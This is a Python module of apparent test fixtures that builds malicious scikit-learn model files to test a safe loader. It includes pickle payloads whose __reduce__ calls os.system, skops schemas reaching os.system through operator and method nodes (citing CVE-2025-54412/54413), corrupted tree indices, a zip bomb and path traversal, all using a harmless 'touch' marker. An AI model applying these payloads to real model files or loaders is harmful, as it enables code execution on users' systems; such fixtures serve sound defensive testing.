"""Files of scikit-learn that do harm: every maker writes one to `path`; code in it would create the file `trace`."""

import io
import json
import os
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import joblib
import numpy as np
import skops.io
from sklearn.ensemble import HistGradientBoostingClassifier, RandomForestClassifier
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import StandardScaler

Schema = dict[str, Any]


def rows(n: int = 60) -> tuple[Any, Any]:
    rng = np.random.default_rng(0)
    labels = np.arange(n) % 3
    return rng.normal(size=(n, 4)) + labels[:, None], np.array(["a", "b", "c"])[labels]


def pipeline() -> Any:
    return make_pipeline(StandardScaler(), LogisticRegression()).fit(*rows())


def forest() -> Any:
    return RandomForestClassifier(3, random_state=0).fit(*rows())


def changed(path: Path, model: Any, change: Callable[[Schema, dict[str, bytes]], None]) -> None:
    """Save a model with skops, and change its schema and its entries."""
    with zipfile.ZipFile(io.BytesIO(skops.io.dumps(model))) as archive:
        entries = {name: archive.read(name) for name in archive.namelist()}
    schema = json.loads(entries.pop("schema.json"))
    change(schema, entries)
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
        archive.writestr("schema.json", json.dumps(schema))


def array(values: Any) -> bytes:
    stream = io.BytesIO()
    np.save(stream, values, allow_pickle=False)
    return stream.getvalue()


# --- skops: code -------------------------------------------------------------------------------------------------


def _function(module: str, name: str, trace: Path) -> Schema:
    argument = {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode", "content": f'"touch {trace}"'}
    arguments = {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": [argument]}
    return {"__class__": name, "__module__": module, "__loader__": "ConstructorFromReduceNode", "content": arguments}


def function_call(path: Path, trace: Path) -> None:
    def change(schema: Schema, entries: dict[str, bytes]) -> None:
        schema["content"]["content"]["memory"] = _function("os", "system", trace)

    changed(path, pipeline(), change)


def operator_call(path: Path, trace: Path) -> None:
    """Hide a call behind `operator` (CVE-2025-54412)."""

    def change(schema: Schema, entries: dict[str, bytes]) -> None:
        inner = _function("os", "system", trace)
        schema["content"]["content"]["memory"] = {
            "__class__": "call", "__module__": "operator", "__loader__": "OperatorFuncNode", "attrs": inner["content"],
        }  # fmt: skip

    changed(path, pipeline(), change)


def method_call(path: Path, trace: Path) -> None:
    """Reach through the attributes of an object (CVE-2025-54413)."""

    def change(schema: Schema, entries: dict[str, bytes]) -> None:
        owner = {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode", "content": '"x"'}
        schema["content"]["content"]["memory"] = {
            "__class__": "str", "__module__": "builtins", "__loader__": "MethodNode",
            "content": {"func": "__class__.__base__.__subclasses__", "obj": owner},
        }  # fmt: skip

    changed(path, pipeline(), change)


# --- skops: numbers that native code believes --------------------------------------------------------------------


def _first_tree(schema: Schema) -> Schema:
    attributes = schema["content"]["content"]["estimators_"]["content"][0]["content"]["content"]
    tree: Schema = attributes["tree_"]
    return tree


def _nodes(change: Callable[[Any], None]) -> Callable[[Schema, dict[str, bytes]], None]:
    def apply(schema: Schema, entries: dict[str, bytes]) -> None:
        file = _first_tree(schema)["content"]["content"]["nodes"]["file"]
        nodes = np.load(io.BytesIO(entries[file]))
        change(nodes)
        entries[file] = array(nodes)

    return apply


def tree_out_of_bounds(path: Path, trace: Path) -> None:
    def change(nodes: Any) -> None:
        nodes["left_child"][0] = 10**9

    changed(path, forest(), _nodes(change))


def tree_in_a_ring(path: Path, trace: Path) -> None:
    def change(nodes: Any) -> None:
        nodes["left_child"][0] = nodes["right_child"][0] = 0

    changed(path, forest(), _nodes(change))


def tree_of_a_foreign_feature(path: Path, trace: Path) -> None:
    def change(nodes: Any) -> None:
        nodes["feature"][0] = 10**6

    changed(path, forest(), _nodes(change))


def tree_of_more_nodes(path: Path, trace: Path) -> None:
    def change(schema: Schema, entries: dict[str, bytes]) -> None:
        _first_tree(schema)["content"]["content"]["node_count"]["content"] = "100000"

    changed(path, forest(), change)


def tree_of_more_outputs(path: Path, trace: Path) -> None:
    def change(schema: Schema, entries: dict[str, bytes]) -> None:
        _first_tree(schema)["__reduce__"]["args"]["content"][2]["content"] = "900"

    changed(path, forest(), change)


def tree_of_more_columns(path: Path, trace: Path) -> None:
    """Let a tree be sound in itself, but read more columns than the forest takes."""

    def change(schema: Schema, entries: dict[str, bytes]) -> None:
        tree = _first_tree(schema)
        tree["__reduce__"]["args"]["content"][0]["content"] = "5000"
        tree["__reduce__"]["args"]["content"][0]["__id__"] = 1
        file = tree["content"]["content"]["nodes"]["file"]
        nodes = np.load(io.BytesIO(entries[file]))
        nodes["feature"][0] = 4000
        entries[file] = array(nodes)

    changed(path, forest(), change)


def tree_under_another_id(path: Path, trace: Path) -> None:
    """Show sound nodes under an id that skops has read other nodes for."""

    def change(schema: Schema, entries: dict[str, bytes]) -> None:
        nodes = _first_tree(schema)["content"]["content"]["nodes"]
        values = np.load(io.BytesIO(entries[nodes["file"]]))
        values["left_child"][0] = 10**9
        entries["other.npy"] = array(values)
        attributes = schema["content"]["content"]
        schema["content"]["content"] = {"first": {**nodes, "file": "other.npy"}, **attributes}
        types = schema["content"]["key_types"]["content"]
        types.insert(0, types[0])

    changed(path, forest(), change)


def boosted_tree_out_of_bounds(path: Path, trace: Path) -> None:
    def change(schema: Schema, entries: dict[str, bytes]) -> None:
        first = schema["content"]["content"]["_predictors"]["content"][0]["content"][0]
        file = first["content"]["content"]["nodes"]["file"]
        nodes = np.load(io.BytesIO(entries[file]))
        nodes["left"][0] = 2**31
        entries[file] = array(nodes)

    changed(path, HistGradientBoostingClassifier(max_iter=2).fit(*rows()), change)


# --- skops: size and archive -------------------------------------------------------------------------------------


def absurd_array(path: Path, trace: Path) -> None:
    def change(schema: Schema, entries: dict[str, bytes]) -> None:
        name = min(name for name in entries if name.endswith(".npy"))
        text = "{'descr': '<f8', 'fortran_order': False, 'shape': (1000000000000,), }".ljust(117).encode() + b"\n"
        entries[name] = b"\x93NUMPY\x01\x00" + len(text).to_bytes(2, "little") + text

    changed(path, pipeline(), change)


def pickled_array(path: Path, trace: Path) -> None:
    def change(schema: Schema, entries: dict[str, bytes]) -> None:
        name = min(name for name in entries if name.endswith(".npy"))
        stream = io.BytesIO()
        np.save(stream, np.array([_Payload(trace)], dtype=object), allow_pickle=True)
        entries[name] = stream.getvalue()

    changed(path, pipeline(), change)


def deep_schema(path: Path, trace: Path) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("schema.json", '{"content":' * 100_000 + "1" + "}" * 100_000)


def nested_schema(path: Path, trace: Path) -> None:
    content: Any = 1
    for _ in range(400):
        content = {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "content": content}
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("schema.json", json.dumps(content))


def zip_bomb(path: Path, trace: Path) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("schema.json", b" " * 100_000_000)


def traversal(path: Path, trace: Path) -> None:
    def change(schema: Schema, entries: dict[str, bytes]) -> None:
        entries[f"../{trace.name}"] = b"x"

    changed(path, pipeline(), change)


# --- pickles -----------------------------------------------------------------------------------------------------


class _Payload:
    def __init__(self, trace: Path) -> None:
        self.trace = trace

    def __reduce__(self) -> Any:
        return os.system, (f"touch {self.trace}",)


def pickled_call(path: Path, trace: Path) -> None:
    path.write_bytes(pickle.dumps(_Payload(trace)))


def pickled_call_in_a_model(path: Path, trace: Path) -> None:
    model = pipeline()
    model.memory = _Payload(trace)
    joblib.dump(model, path)


def pickled_call_packed(path: Path, trace: Path) -> None:
    model = pipeline()
    model.memory = _Payload(trace)
    joblib.dump(model, path, compress=3)


SKOPS_CODE = (function_call, operator_call, method_call)
"""Types that skops does not trust: they are offered to `--trust`, and loading them is what the user allows."""
SKOPS_NUMBERS = (
    tree_out_of_bounds, tree_in_a_ring, tree_of_a_foreign_feature, tree_of_more_nodes, tree_of_more_outputs,
    tree_of_more_columns, tree_under_another_id, boosted_tree_out_of_bounds,
)  # fmt: skip
SKOPS_ARCHIVES = (absurd_array, pickled_array, deep_schema, nested_schema, zip_bomb, traversal)
PICKLES = (pickled_call, pickled_call_in_a_model, pickled_call_packed)
